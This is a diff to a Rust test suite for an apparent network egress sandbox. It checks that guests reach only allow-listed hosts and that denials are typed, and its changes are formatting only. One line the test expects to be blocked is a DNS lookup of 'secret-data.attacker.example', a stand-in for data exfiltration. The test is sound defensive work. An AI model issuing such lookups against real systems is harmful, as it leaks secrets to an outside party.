@@ -143,7 +143,7 @@ async fn nothing_else_is_reached_and_no_name_server_is_asked() {
     for command in [
         format!("connect other.stream.example.com {port}"),
         format!("connect stream.example.com {port}"),
-        format!("resolve secret-data.attacker.example"),
+        "resolve secret-data.attacker.example".to_owned(),
         // Hosts of https rules are for HTTP.
         "resolve api.web.example.com".to_owned(),
         "resolve localhost".to_owned(),
@@ -216,7 +216,10 @@ async fn redirected_hosts_are_reached_below_the_rules_suffix_alone() {
     // An emulator, permitted by name.
     let echo = Echo::start().await;
     let options = TenantOptions {
-        allow_hosts: vec!["server.stream.example.com".parse().unwrap(), format!("emulator:{}", echo.port).parse().unwrap()],
+        allow_hosts: vec![
+            "server.stream.example.com".parse().unwrap(),
+            format!("emulator:{}", echo.port).parse().unwrap(),
+        ],
         ..local()
     };
     let guest = Guest { tenant: names.tenant(options, &["127.0.0.1"]), ..guest };
@@ -253,7 +256,8 @@ async fn denials_are_typed_and_say_what_to_do() {
 
     let limits = Limits { sockets: 0, ..Limits::default() };
     let guest =
-        Guest::new(names.tenant(TenantOptions { limits, ..local() }, &["127.0.0.1"]), "server.stream.example.com:5671").await;
+        Guest::new(names.tenant(TenantOptions { limits, ..local() }, &["127.0.0.1"]), "server.stream.example.com:5671")
+            .await;
     let denied = denials(&guest).await;
     assert_eq!(denied[0].layer, EgressLayer::Socket, "{denied:?}");
     assert!(denied[0].to_string().contains("Limits::sockets"), "{}", denied[0]);
